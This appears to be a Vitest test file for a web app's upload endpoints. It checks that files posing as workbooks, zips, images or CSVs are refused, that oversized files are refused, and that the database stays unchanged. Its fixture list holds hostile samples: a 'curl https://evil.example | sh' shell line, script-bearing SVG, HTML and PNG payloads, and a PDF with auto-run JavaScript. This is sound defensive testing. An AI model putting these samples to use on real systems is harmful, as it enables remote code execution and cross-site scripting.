import { globSync, readFileSync } from 'node:fs'
import { setTimeout as pause } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { expect, inject, test } from 'vitest'
import { address } from '#app/addresses.ts'
import { armsLimits } from '#domain/organisations/arms-limits.ts'
import { archiveLimits } from '#server/archive/limits.ts'
import { limits as workbookLimits } from '#server/workbooks/limits.ts'
import { packZip } from '#test/workbooks/zip.ts'
import { withDigest } from './database-digest.ts'

const mebi = 1024 * 1024
const code = 'X001'

/** Everything that takes a file from a browser: the field, how much of it is taken, and what it must be. */
const uploads = [
  {
    file: 'app/ui/workbooks/choose-workbook.tsx',
    path: address('sv', 'importWorkbook', { round: 'exempelrundan', code }),
    field: 'workbook',
    most: workbookLimits.fileBytes,
    name: 'checklista.xlsx',
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  },
  {
    file: 'app/ui/archive/read-in.tsx',
    path: address('sv', 'organisationArchive', { code }),
    field: 'archive',
    most: archiveLimits.uploadBytes,
    name: 'jamsides-X001.zip',
    type: 'application/zip',
  },
  {
    file: 'app/routes/organisations/arms.tsx',
    path: address('sv', 'arms', { code }),
    field: 'image',
    most: armsLimits.megabytes * mebi,
    name: 'vapen.png',
    type: 'image/png',
  },
  {
    file: 'app/routes/coverage/coverage-import.tsx',
    path: address('sv', 'coverageImport', { code }),
    field: 'file',
    most: 2 * mebi,
    name: 'matt.csv',
    type: 'text/csv',
  },
] as const

/** Files that are not what their names and media types say. */
const foreign: Readonly<Record<string, Buffer>> = {
  'an SVG with a script': Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  ),
  'a web page': Buffer.from('<!doctype html><script>alert(1)</script>'),
  'a program of Windows': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400, 1)]),
  'a program of Linux': Buffer.concat([Buffer.from('\u007fELF', 'latin1'), Buffer.alloc(400, 2)]),
  'a shell script': Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
  'a PDF': Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  'a packed file': gzipSync('x'.repeat(10_000)),
  'a zip of something else': packZip([{ name: 'evil.html', data: '<script>alert(1)</script>' }]),
  'a PNG that goes on as a web page': Buffer.concat([
    Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    Buffer.from('<script>alert(1)</script>'),
  ]),
  'an old workbook with macros': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
  nothing: Buffer.alloc(0),
  'bytes without meaning': Buffer.from(Array.from({ length: 999 }, (_, i) => (i * 7919) % 256)),
}

type Upload = (typeof uploads)[number]

async function send({ path, field, name, type }: Upload, content: Buffer): Promise<Response> {
  const form = new FormData()
  form.set(field, new File([new Uint8Array(content)], name, { type }))
  const headers = { cookie: 'jamsides_person=saga', origin: inject('siteUrl') }
  return fetch(inject('siteUrl') + path, { method: 'POST', body: form, headers, redirect: 'manual' })
}

/** An archive is looked at by a worker: the order is taken, and says what is wrong. */
const lineOfOrders = /^(public\.job|pgboss\.)/

test('everything that takes a file stands in the table', () => {
  const taking = globSync('app/{routes,ui}/**/*.tsx').filter((file) =>
    /<FileField\b/.test(readFileSync(file, 'utf8')),
  )
  expect(taking.sort()).toEqual(uploads.map(({ file }) => file).sort())
})

test.each(uploads.map((upload) => [upload.field, upload] as const))(
  'as %s, what is not what it says is refused by what it holds, and so is what is too large',
  async (_, upload) => {
    await withDigest(async (digest) => {
      const before = await digest()
      for (const [what, content] of Object.entries(foreign)) {
        const response = await send(upload, content)
        const location = response.headers.get('location')
        const refused = location === null ? response.status === 400 : await endsRefused(location)
        expect({ what, refused }).toEqual({ what, refused: true })
      }
      const tooLarge = await send(upload, Buffer.alloc(upload.most + 70_000, ' '))
      expect(tooLarge.status).toBe(413)
      const after = await digest()
      const changed = Object.keys(after).filter((table) => after[table] !== before[table])
      expect(changed.filter((table) => !lineOfOrders.test(table))).toEqual([])
    })
  },
  120_000,
)

/** Whether the page of an order ends by saying that nothing came of it. */
async function endsRefused(location: string): Promise<boolean> {
  for (;;) {
    const headers = { cookie: 'jamsides_person=saga' }
    const response = await fetch(new URL(location, inject('siteUrl')), { headers })
    const page = await response.text()
    if (/data-color="danger"|role="alert"/.test(page)) return true
    if (response.headers.get('refresh') === null) return false
    await pause(100)
  }
}
